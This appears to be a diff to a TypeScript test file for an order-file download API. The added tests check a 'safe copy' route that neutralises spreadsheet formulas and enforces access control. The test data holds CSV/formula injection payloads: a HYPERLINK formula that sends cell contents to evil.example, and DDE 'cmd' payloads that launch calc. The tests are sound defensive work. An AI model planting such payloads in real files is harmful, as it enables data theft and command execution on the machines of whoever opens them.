@@ -8,10 +8,12 @@ import os from 'node:os'
 import path from 'node:path'
 
 import type { OrderFile, User } from '@prisma/client'
+import ExcelJS from 'exceljs'
 import { callV1, type Json } from 'testing/rest/testClient'
 import { currentUserFixture } from 'testing/testUsers'
 
 import { db } from 'src/lib/db'
+import { SAFE_COPY_MIME } from 'src/lib/orderFiles/safeCopy'
 import { storeOrderFile, removeStoredFile } from 'src/lib/orderFiles/storage'
 
 import type { StandardScenario } from './orderFileDownload.scenarios'
@@ -23,12 +25,12 @@ afterAll(() => fs.rmSync(process.env.ORDER_FILES_ROOT!, { recursive: true, force
 
 type Who = User | 'guest' | { staff: 'manager' | 'admin'; user: User }
 
-async function download(who: Who, orderId: number, fileId: number) {
+async function download(who: Who, orderId: number, fileId: number, route = 'download') {
   if (who === 'guest') mockCurrentUser(null)
   else if ('staff' in who) {
     mockCurrentUser(currentUserFixture({ id: who.user.id, email: who.user.email, role: who.staff }))
   } else mockCurrentUser(currentUserFixture({ id: who.id, email: who.email, role: who.role }))
-  const answer = await callV1(`/order/${orderId}/files/${fileId}/download/`, {
+  const answer = await callV1(`/order/${orderId}/files/${fileId}/${route}/`, {
     asCurrentUser: who !== 'guest',
   })
   return { ...answer, body: answer.body as Json }
@@ -37,15 +39,20 @@ async function download(who: Who, orderId: number, fileId: number) {
 const bytesOf = (answer: { text: string }) => Buffer.from(answer.text, 'base64')
 
 /** A stored file of an order, recorded as the upload would (the bytes need not be a spreadsheet here). */
-async function storedFile(orderId: number, fileName: string, bytes: Buffer): Promise<OrderFile> {
-  const storedPath = await storeOrderFile(orderId, bytes, 'csv')
+async function storedFile(
+  orderId: number,
+  fileName: string,
+  bytes: Buffer,
+  kind: 'csv' | 'xlsx' = 'csv'
+): Promise<OrderFile> {
+  const storedPath = await storeOrderFile(orderId, bytes, kind)
   return db.orderFile.create({
     data: {
       orderId,
       fileName,
       storedPath,
-      mimeType: 'text/csv',
-      kind: 'csv',
+      mimeType: kind === 'csv' ? 'text/csv' : SAFE_COPY_MIME,
+      kind,
       size: bytes.length,
       sha256: 'x',
       rowCount: 1,
@@ -74,6 +81,109 @@ describe('order file download over /api/v1', () => {
       })
     }
   )
+
+  describe('the safe copy staff open by default', () => {
+    const HOSTILE = [
+      '=HYPERLINK("https://evil.example/?d="&A1,"Скидка 50%")',
+      "=cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '+7 701 234 56 78',
+      '-2+3',
+    ]
+
+    /** The cells of a downloaded workbook's first sheet, as text. */
+    async function cellsOf(bytes: Buffer) {
+      const book = new ExcelJS.Workbook()
+      await book.xlsx.load(bytes as unknown as ArrayBuffer)
+      const rows: unknown[][] = []
+      book.worksheets[0].eachRow((row) => rows.push((row.values as unknown[]).slice(1)))
+      return {
+        rows,
+        formulas: book.worksheets[0]
+          .getSheetValues()
+          .flat()
+          .filter((v) => v && typeof v === 'object' && 'formula' in v),
+      }
+    }
+
+    scenario(
+      'a CSV with formulas comes neutralised; the original only by its own route',
+      async (s: StandardScenario) => {
+        const csv = Buffer.from(
+          [
+            'Артикул;Количество;Комментарий',
+            ...HOSTILE.map((text, i) => `NS-${i};1;${text.replace(/;/g, ',')}`),
+          ].join('\r\n'),
+          'utf8'
+        )
+        const file = await storedFile(s.order.placed.id, 'заказ.csv', csv)
+        const manager = { staff: 'manager' as const, user: s.user.daniyar }
+        const safe = await download(manager, s.order.placed.id, file.id, 'safe-copy')
+        expect(safe.status).toBe(200)
+        expect(safe.headers).toMatchObject({
+          'Content-Type': SAFE_COPY_MIME,
+          'X-Content-Type-Options': 'nosniff',
+          'Cache-Control': 'private, no-store',
+        })
+        expect(decodeURIComponent(String(safe.headers['Content-Disposition']).split("''")[1])).toBe(
+          'заказ (безопасная копия).xlsx'
+        )
+        const { rows, formulas } = await cellsOf(bytesOf(safe))
+        expect(formulas).toEqual([])
+        const comments = rows.slice(2).map((row) => row[3])
+        expect(comments).toEqual(HOSTILE.map((text) => `'${text.replace(/;/g, ',')}`))
+        for (const row of rows)
+          for (const cell of row)
+            if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/)
+        expect(rows[1]).toEqual(['1', 'Артикул', 'Количество', 'Комментарий'])
+
+        // The original bytes, formulas and all, only by …/download/.
+        const original = await download(manager, s.order.placed.id, file.id)
+        expect(bytesOf(original).equals(csv)).toBe(true)
+        expect(bytesOf(safe).equals(csv)).toBe(false)
+      }
+    )
+
+    scenario(
+      'an .xlsx with formula cells comes as their values, never formulas',
+      async (s: StandardScenario) => {
+        const book = new ExcelJS.Workbook()
+        book.addWorksheet('Заказ').addRows([
+          ['Артикул', 'Количество', 'Ссылка'],
+          [
+            'NS-100',
+            2,
+            { formula: 'HYPERLINK("https://evil.example","Открыть")', result: 'Открыть' },
+          ],
+          [
+            'F-7',
+            { formula: '1+1', result: 2 },
+            { formula: "cmd|' /C calc'!A0", result: "=cmd|' /C calc'!A0" },
+          ],
+        ])
+        const bytes = Buffer.from(await book.xlsx.writeBuffer())
+        const file = await storedFile(s.order.placed.id, 'заказ.xlsx', bytes, 'xlsx')
+        const safe = await download(
+          { staff: 'admin', user: s.user.daniyar },
+          s.order.placed.id,
+          file.id,
+          'safe-copy'
+        )
+        expect(safe.status).toBe(200)
+        const { rows, formulas } = await cellsOf(bytesOf(safe))
+        expect(formulas).toEqual([])
+        expect(rows.slice(1)).toEqual([
+          ['1', 'Артикул', 'Количество', 'Ссылка'],
+          ['2', 'NS-100', '2', 'Открыть'],
+          ['3', 'F-7', '2', "'=cmd|' /C calc'!A0"],
+        ])
+        // Same access as the original: another customer hears 404, a guest 401.
+        const other = await download(s.user.daniyar, s.order.placed.id, file.id, 'safe-copy')
+        expect({ status: other.status, body: other.body }).toEqual(NOT_FOUND)
+        expect((await download('guest', s.order.placed.id, file.id, 'safe-copy')).status).toBe(401)
+      }
+    )
+  })
 
   scenario("order staff get any order's file", async (s: StandardScenario) => {
     const bytes = Buffer.from('F-7;1\n')
